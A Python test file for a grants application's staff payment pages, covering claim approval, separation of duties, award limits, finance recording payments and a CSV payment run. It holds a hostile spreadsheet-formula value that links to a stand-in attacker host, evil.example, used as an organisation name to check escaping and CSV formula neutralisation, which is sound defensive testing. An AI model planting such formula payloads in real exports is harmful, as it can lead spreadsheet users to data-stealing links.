"""Staff payments: claims and scheduled payments to approve, each approved or rejected through
the engine (never by whoever recommended or approved the award, never past what remains of it),
and finance's payment run of everything approved and unpaid, with its CSV, where finance (and
only finance) records each payment as made."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from grants.calendar import london_today
from grants.extensions import db
from grants.models import (
    Award,
    AwardCondition,
    AwardStatus,
    AwardYear,
    ClaimLine,
    Organisation,
    OrganisationType,
    Payment,
    PaymentStatus,
    Programme,
    ProgrammeKind,
    StaffRole,
    User,
    utcnow,
)
from grants.services import payments
from grants.services.errors import ServiceError
from grants.spreadsheets import safe_text
from tests.conftest import csrf_token, make_document, make_staff, open_round
from tests.integration.staff_pages import (
    bulk_award,
    client_for,
    ledger_events,
    saffron_lane_and_staff,
    statements_run,
)

TODAY = london_today()
HOSTILE = '=HYPERLINK("http://evil.example/steal","Click for your grant")'


def add_payment(award: Award, status: PaymentStatus, amount: int, **fields) -> Payment:
    payment = Payment(
        award=award,
        status=status,
        amount_pence=amount,
        financial_year=fields.pop("financial_year", 2026),
        **fields,
    )
    db.session.add(payment)
    return payment


@pytest.fixture
def world(ctx) -> dict:
    """Saffron Lane's award of £10,000 (£6,000 in 2026/27, £4,000 in 2027/28), recommended by
    one officer and approved by a decision maker, with a claim, scheduled payments and an
    approved one; and a second programme's award to an organisation with a hostile name."""
    organisation, member, staff = saffron_lane_and_staff()
    staff["recommender"] = make_staff(
        StaffRole.COMMISSIONING_OFFICER, "recommender@opcc.example.org"
    )
    staff["award_approver"] = make_staff(StaffRole.DECISION_MAKER, "approver@opcc.example.org")
    round_ = open_round()
    award = Award(
        reference="PF-AWD-0001",
        programme=round_.programme,
        organisation=organisation,
        title="Friday night boxing",
        amount_pence=1_000_000,
        status=AwardStatus.ACTIVE,
        recommended_by_id=staff["recommender"].id,
        approved_by_id=staff["award_approver"].id,
        years=[
            AwardYear(financial_year=2026, amount_pence=600_000),
            AwardYear(financial_year=2027, amount_pence=400_000),
        ],
        conditions=[
            AwardCondition(
                text="Bank details verified",
                before_first_payment=True,
                met_at=utcnow(),
                position=0,
            ),
            AwardCondition(text="Publicity mentions the Commissioner", position=1),
        ],
    )
    db.session.add_all([round_, award])
    paid = add_payment(award, PaymentStatus.PAID, 150_000, paid_on=TODAY, due_date=TODAY)
    claim = add_payment(award, PaymentStatus.CLAIMED, 250_000, claimed_at=utcnow())
    due = add_payment(award, PaymentStatus.SCHEDULED, 100_000, due_date=TODAY + dt.timedelta(10))
    overdue = add_payment(award, PaymentStatus.SCHEDULED, 40_000, due_date=TODAY - dt.timedelta(3))
    later = add_payment(award, PaymentStatus.SCHEDULED, 60_000, due_date=TODAY + dt.timedelta(90))
    draft = add_payment(award, PaymentStatus.SCHEDULED, 0)  # the organisation's claim draft
    approved = add_payment(
        award,
        PaymentStatus.APPROVED,
        200_000,
        financial_year=2027,
        due_date=TODAY + dt.timedelta(5),
        approved_by_id=staff["officer"].id,
    )
    db.session.flush()
    receipt = make_document(
        organisation.id, member.id, "hall invoice.pdf", purpose="claim_evidence",
        payment_id=claim.id,
    )  # fmt: skip
    claim.claim_lines.append(
        ClaimLine(description="Hall hire, May", amount_pence=250_000, document_id=receipt.id)
    )

    other_programme = Programme(name="Safer Streets", slug="ss", kind=ProgrammeKind.EXTERNAL_BID)
    hostile = Organisation(name=HOSTILE, org_type=OrganisationType.COMMUNITY_GROUP)
    other_award = Award(
        reference="SS-AWD-0001",
        programme=other_programme,
        organisation=hostile,
        title="Alley gates",
        amount_pence=500_000,
        status=AwardStatus.ACTIVE,
        years=[AwardYear(financial_year=2026, amount_pence=500_000)],
    )
    db.session.add_all([other_programme, hostile, other_award])
    other_approved = add_payment(
        other_award,
        PaymentStatus.APPROVED,
        123_456,
        due_date=TODAY + dt.timedelta(2),
        approved_by_id=staff["decider"].id,
    )
    db.session.commit()
    return {
        "member": member.id,
        "staff": {name: user.id for name, user in staff.items()},
        "payments": {
            "paid": paid.id,
            "claim": claim.id,
            "due": due.id,
            "overdue": overdue.id,
            "later": later.id,
            "draft": draft.id,
            "approved": approved.id,
            "other_approved": other_approved.id,
        },
        "award_id": award.id,
        "programme_id": round_.programme.id,
        "other_programme_id": other_programme.id,
    }


@pytest.fixture
def officer(app, world):
    return client_for(app, world["staff"]["officer"])


@pytest.fixture
def finance(app, world):
    return client_for(app, world["staff"]["finance"])


def in_table(html: str, group: str) -> list[int]:
    match = re.search(rf'data-group="{group}".*?</table>', html, re.S)
    return [int(i) for i in re.findall(r'data-payment="(\d+)"', match.group(0))] if match else []


def fresh(payment_id: int) -> Payment:
    db.session.expire_all()
    return db.session.get(Payment, payment_id)


def events_of(payment_id: int) -> list[tuple[str, str | None]]:
    return ledger_events("payment", payment_id)


def decide(client, payment_id: int, move: str, reason: str | None = None, version=None):
    url = f"/staff/payments/{payment_id}"
    data = {
        "csrf_token": csrf_token(client, url),
        "move": move,
        f"{move}-version": version or str(fresh(payment_id).version),
    }
    if reason is not None:
        data[f"{move}-reason"] = reason
    return client.post(url, data=data)


def record_paid(client, payment_id: int, day: dt.date | None, reference: str, version=None):
    url = f"/staff/payments/{payment_id}"
    parts = [str(day.day), str(day.month), str(day.year)] if day else ["", "", ""]
    return client.post(
        f"{url}/paid",
        data={
            "csrf_token": csrf_token(client, url),
            "version": version or str(fresh(payment_id).version),
            "paid_on": parts,
            "payment_reference": reference,
        },
    )


# The list of payments to approve -----------------------------------------------------------


def test_claims_and_payments_coming_due_are_listed_with_totals(officer, world):
    ids = world["payments"]
    response = officer.get("/staff/payments")
    assert response.status_code == 200
    html = response.text
    assert in_table(html, "claims") == [ids["claim"]]
    # Due within 30 days or overdue, soonest first; not one due in 90 days, nor a claim draft.
    assert in_table(html, "scheduled") == [ids["overdue"], ids["due"]]
    assert re.search(r'id="claims-total">£2,500\.00<', html)
    assert re.search(r'id="scheduled-total">£1,400\.00<', html)
    row = re.search(rf'data-payment="{ids["overdue"]}">.*?</tr>', html, re.S).group(0)
    assert "Overdue" in row and "2026/27" in row


def test_the_programme_filter_narrows_the_list(officer, world):
    html = officer.get(f"/staff/payments?programme={world['other_programme_id']}").text
    assert in_table(html, "claims") == [] and in_table(html, "scheduled") == []
    assert officer.get("/staff/payments?programme=nope").status_code == 400


# One payment --------------------------------------------------------------------------------


def test_a_claim_shows_its_items_evidence_the_money_per_year_and_the_conditions(officer, world):
    response = officer.get(f"/staff/payments/{world['payments']['claim']}")
    assert response.status_code == 200
    html = response.text
    lines = re.search(r'id="claim-lines".*?</table>', html, re.S).group(0)
    assert "Hall hire, May" in lines and "hall invoice.pdf" in lines and "£2,500.00" in lines
    years = re.search(r'id="award-years".*?</table>', html, re.S).group(0)
    # 2026/27: £6,000, £1,500 paid, £2,500 claimed, £2,000 left. 2027/28: £2,000 approved.
    assert re.search(r"2026/27.*?£6,000\.00.*?£1,500\.00.*?£2,500\.00.*?£2,000\.00", years, re.S)
    assert re.search(r"2027/28.*?£4,000\.00.*?£0\.00.*?£2,000\.00.*?£2,000\.00", years, re.S)
    conditions = re.search(r'id="conditions".*?</dl>', html, re.S).group(0)
    assert "Bank details verified" in conditions and "Met" in conditions
    assert "Publicity" not in conditions  # not a condition before payment
    assert 'id="approve-button"' in html and 'id="reject-button"' in html


def test_an_unknown_payment_is_not_found(officer):
    assert officer.get("/staff/payments/999999").status_code == 404


def test_another_officer_approves_the_claim_and_the_ledger_records_it(officer, world):
    claim_id = world["payments"]["claim"]
    response = decide(officer, claim_id, "approve")
    assert response.status_code == 302
    payment = fresh(claim_id)
    assert payment.status is PaymentStatus.APPROVED
    assert payment.approved_by_id == world["staff"]["officer"]
    assert events_of(claim_id)[-1] == ("approve", None)
    assert "Payment approved" in officer.get(f"/staff/payments/{claim_id}").text


@pytest.mark.parametrize("who", ["recommender", "award_approver"])
def test_whoever_recommended_or_approved_the_award_cannot_approve_its_payments(app, world, who):
    client = client_for(app, world["staff"][who])
    claim_id = world["payments"]["claim"]
    page = client.get(f"/staff/payments/{claim_id}").text
    assert "You recommended or approved this award" in page
    before = events_of(claim_id)
    response = decide(client, claim_id, "approve")
    assert response.status_code == 400
    assert "There is a problem" in response.text
    assert "Someone who recommended or approved the award cannot approve its payments" in (
        response.text
    )
    assert fresh(claim_id).status is PaymentStatus.CLAIMED
    assert events_of(claim_id) == before


def test_a_payment_beyond_what_remains_of_the_year_is_refused(officer, world):
    claim_id = world["payments"]["claim"]
    fresh(claim_id).amount_pence = 460_000  # £1,500 paid + £4,600 > £6,000 for 2026/27
    db.session.commit()
    response = decide(officer, claim_id, "approve")
    assert response.status_code == 400
    assert "This would pay more than the award for that financial year" in response.text
    assert fresh(claim_id).status is PaymentStatus.CLAIMED


def test_a_payment_beyond_the_whole_award_is_refused(officer, world):
    due_id = world["payments"]["due"]
    payment = fresh(due_id)
    payment.amount_pence = 700_000
    payment.financial_year = 2027
    db.session.commit()
    response = decide(officer, due_id, "approve")
    assert response.status_code == 400
    assert "This would pay more than the award" in response.text
    assert fresh(due_id).status is PaymentStatus.SCHEDULED


def test_an_unmet_condition_before_payment_blocks_approval(officer, world):
    award = db.session.get(Award, world["award_id"])
    award.conditions.append(
        AwardCondition(text="Safeguarding policy in date", before_first_payment=True, position=2)
    )
    db.session.commit()
    claim_id = world["payments"]["claim"]
    page = officer.get(f"/staff/payments/{claim_id}").text
    assert "Not met" in page
    response = decide(officer, claim_id, "approve")
    assert response.status_code == 400
    assert "These conditions must be met before a payment: Safeguarding policy in date" in (
        response.text
    )


@pytest.mark.parametrize("reason", ["", "   "])
def test_rejecting_a_claim_needs_a_reason(officer, world, reason):
    claim_id = world["payments"]["claim"]
    response = decide(officer, claim_id, "reject", reason)
    assert response.status_code == 400
    assert "Enter why the claim is rejected" in response.text
    assert 'href="#reject-reason"' in response.text
    assert fresh(claim_id).status is PaymentStatus.CLAIMED


def test_a_claim_is_rejected_with_its_reason(officer, world):
    claim_id = world["payments"]["claim"]
    response = decide(officer, claim_id, "reject", "The invoice is for a different project.")
    assert response.status_code == 302
    assert fresh(claim_id).status is PaymentStatus.REJECTED
    assert events_of(claim_id)[-1] == ("reject", "The invoice is for a different project.")


def test_a_stale_version_is_refused_and_changes_nothing(officer, world):
    claim_id = world["payments"]["claim"]
    stale = str(fresh(claim_id).version - 1)
    response = decide(officer, claim_id, "approve", version=stale)
    assert response.status_code == 400
    assert "Someone else changed this while you were working on it" in response.text
    assert fresh(claim_id).status is PaymentStatus.CLAIMED


def test_a_post_that_names_no_decision_is_refused(officer, world):
    claim_id = world["payments"]["claim"]
    response = decide(officer, claim_id, "pay")
    assert response.status_code == 400
    assert "Choose whether to approve the payment or reject the claim" in response.text


def test_assessors_and_finance_cannot_decide_payments(app, world):
    claim_id = world["payments"]["claim"]
    for who in ("assessor", "finance"):
        client = client_for(app, world["staff"][who])
        assert client.get(f"/staff/payments/{claim_id}").status_code == 200
        assert decide(client, claim_id, "approve").status_code == 403
    assert fresh(claim_id).status is PaymentStatus.CLAIMED


def test_community_users_cannot_reach_the_staff_payment_pages(app, world):
    client = client_for(app, world["member"])
    claim_id = world["payments"]["claim"]
    for url in ("/staff/payments", f"/staff/payments/{claim_id}", "/staff/payment-run",
                "/staff/payment-run.csv"):  # fmt: skip
        assert client.get(url).status_code == 403, url


# Recording a payment as made ----------------------------------------------------------------


def approved_by_officer(officer, world) -> int:
    claim_id = world["payments"]["claim"]
    assert decide(officer, claim_id, "approve").status_code == 302
    return claim_id


def test_finance_records_an_approved_payment_as_paid(officer, finance, world):
    claim_id = approved_by_officer(officer, world)
    page = finance.get(f"/staff/payments/{claim_id}").text
    assert 'id="pay-button"' in page and "Commissioning officer, " in page
    response = record_paid(finance, claim_id, TODAY, "  BACS-2026-0042 ")
    assert response.status_code == 302
    payment = fresh(claim_id)
    assert payment.status is PaymentStatus.PAID
    assert payment.paid_on == TODAY and payment.payment_reference == "BACS-2026-0042"
    assert payment.paid_by_id == world["staff"]["finance"]
    assert events_of(claim_id)[-1] == ("pay", None)


@pytest.mark.parametrize(
    ("day", "reference", "message"),
    [
        (TODAY + dt.timedelta(days=1), "BACS-1", "must be today or in the past"),
        (TODAY - dt.timedelta(days=1), "BACS-1", "on or after the day it was approved"),
        (None, "BACS-1", "Enter the date the payment was made"),
        (TODAY, "", "Enter the payment reference"),
        (TODAY, "   ", "Enter the payment reference"),
        (TODAY, "B" * 61, "60 characters or fewer"),
    ],
)
def test_a_payment_record_with_a_wrong_date_or_reference_is_refused(
    officer, finance, world, day, reference, message
):
    claim_id = approved_by_officer(officer, world)
    before = events_of(claim_id)
    response = record_paid(finance, claim_id, day, reference)
    assert response.status_code == 400
    assert "There is a problem" in response.text and message in response.text
    payment = fresh(claim_id)
    assert payment.status is PaymentStatus.APPROVED and payment.paid_on is None
    assert events_of(claim_id) == before


def test_a_date_that_is_not_real_is_refused(officer, finance, world):
    claim_id = approved_by_officer(officer, world)
    url = f"/staff/payments/{claim_id}"
    response = finance.post(
        f"{url}/paid",
        data={
            "csrf_token": csrf_token(finance, url),
            "version": str(fresh(claim_id).version),
            "paid_on": ["31", "2", str(TODAY.year)],
            "payment_reference": "BACS-1",
        },
    )
    assert response.status_code == 400
    assert "Date paid must be a real date" in response.text


def test_an_officer_cannot_record_a_payment_as_paid(officer, world):
    claim_id = approved_by_officer(officer, world)
    response = record_paid(officer, claim_id, TODAY, "BACS-1")
    assert response.status_code == 403
    assert fresh(claim_id).status is PaymentStatus.APPROVED
    # Nor can any route round the page: the engine's pay is finance's alone.
    with pytest.raises(ServiceError, match="You do not have permission to record the payment"):
        payments.record_paid(
            db.session.get(User, world["staff"]["officer"]),
            claim_id,
            fresh(claim_id).version,
            TODAY,
            "BACS-1",
        )
    assert fresh(claim_id).status is PaymentStatus.APPROVED


def test_a_payment_not_approved_cannot_be_recorded_as_paid(finance, world):
    claim_id = world["payments"]["claim"]
    response = record_paid(finance, claim_id, TODAY, "BACS-1")
    assert response.status_code == 400
    assert "You cannot record the payment as made because the payment is claimed" in (response.text)


# The payment run ----------------------------------------------------------------------------


def run_ids(html: str) -> list[int]:
    table = re.search(r'id="payment-run".*?</table>', html, re.S).group(0)
    return [int(i) for i in re.findall(r'data-payment="(\d+)"', table)]


def test_the_payment_run_lists_every_approved_unpaid_payment_with_the_total(finance, world):
    ids = world["payments"]
    response = finance.get("/staff/payment-run")
    assert response.status_code == 200
    html = response.text
    assert run_ids(html) == [ids["other_approved"], ids["approved"]]  # soonest due first
    assert re.search(r'id="run-total">£3,234\.56<', html)
    row = re.search(rf'data-payment="{ids["approved"]}">.*?</tr>', html, re.S).group(0)
    assert "Saffron Lane Boxing Club" in row and "PF-AWD-0001" in row
    assert "2027/28" in row and "Commissioning officer" in row and "£2,000.00" in row
    # The hostile name is shown as text, never as markup.
    assert "=HYPERLINK(&#34;http://evil.example/steal&#34;" in html


def test_the_payment_run_follows_the_programme_filter(finance, world):
    html = finance.get(f"/staff/payment-run?programme={world['programme_id']}").text
    assert run_ids(html) == [world["payments"]["approved"]]
    assert f"/staff/payment-run.csv?programme={world['programme_id']}" in html


def test_officers_and_decision_makers_may_view_the_run_and_assessors_may_not(app, world):
    for who, expected in (("officer", 200), ("decider", 200), ("assessor", 403)):
        client = client_for(app, world["staff"][who])
        assert client.get("/staff/payment-run").status_code == expected, who
        assert client.get("/staff/payment-run.csv").status_code == expected, who


def test_the_csv_neutralises_formulas_and_totals_in_pounds(finance, world):
    response = finance.get("/staff/payment-run.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:6] == [
        "Payee organisation", "Award reference", "Amount (£)", "Financial year", "Approved by",
        "Due date",
    ]  # fmt: skip
    assert rows[1][0] == "'" + HOSTILE
    assert rows[1][1:5] == ["SS-AWD-0001", "1234.56", "2026/27", "Decision maker"]
    assert rows[2][:4] == ["Saffron Lane Boxing Club", "PF-AWD-0001", "2000.00", "2027/28"]
    assert rows[-1][:3] == ["Total", "", "3234.56"]
    assert len(rows) == 4


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_would_run_is_made_text(start):
    assert safe_text(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_ordinary_cells_are_left_as_they_are():
    assert safe_text("Saffron Lane Boxing Club") == "Saffron Lane Boxing Club"
    assert safe_text("") == ""
    assert payments.in_pounds(5) == "0.05" and payments.in_pounds(123_456_789) == "1234567.89"


# A constant number of statements -------------------------------------------------------------


def approved_payments(programme_id: int, approver_id: int, count: int, start: int) -> None:
    """``count`` approved payments and as many claims, each on its own organisation's award."""
    for n in range(start, start + count):
        award = bulk_award(programme_id, n)
        add_payment(award, PaymentStatus.APPROVED, 1_000, approved_by_id=approver_id)
        add_payment(award, PaymentStatus.CLAIMED, 2_000, claimed_at=utcnow())
    db.session.commit()


def test_the_lists_run_the_same_statements_with_3_and_60_payments(app, ctx):
    officer = make_staff(StaffRole.COMMISSIONING_OFFICER)
    finance = make_staff(StaffRole.FINANCE)
    programme = Programme(name="Prevention Fund", slug="pf", kind=ProgrammeKind.COMMUNITY_GRANT)
    db.session.add(programme)
    db.session.commit()
    pages = [
        (finance.id, "/staff/payment-run"),
        (finance.id, f"/staff/payment-run?programme={programme.id}"),
        (finance.id, "/staff/payment-run.csv"),
        (officer.id, "/staff/payments"),
    ]

    bodies: list[str] = []

    def counts() -> list[int]:
        found = []
        for user_id, url in pages:
            client = client_for(app, user_id)
            assert client.get(url).status_code == 200
            with statements_run(app) as seen:
                response = client.get(url)
                # A streamed body runs its statements as it is read.
                bodies.append(response.get_data(as_text=True))
            assert response.status_code == 200, url
            found.append(len(seen))
        return found

    approved_payments(programme.id, officer.id, 3, 0)
    with_three = counts()
    approved_payments(programme.id, officer.id, 57, 3)
    with_sixty = counts()

    assert with_three == with_sixty
    assert max(with_sixty) <= 4
    assert bodies[-1].count("Group ") == 60 and bodies[-2].count("Group ") == 60
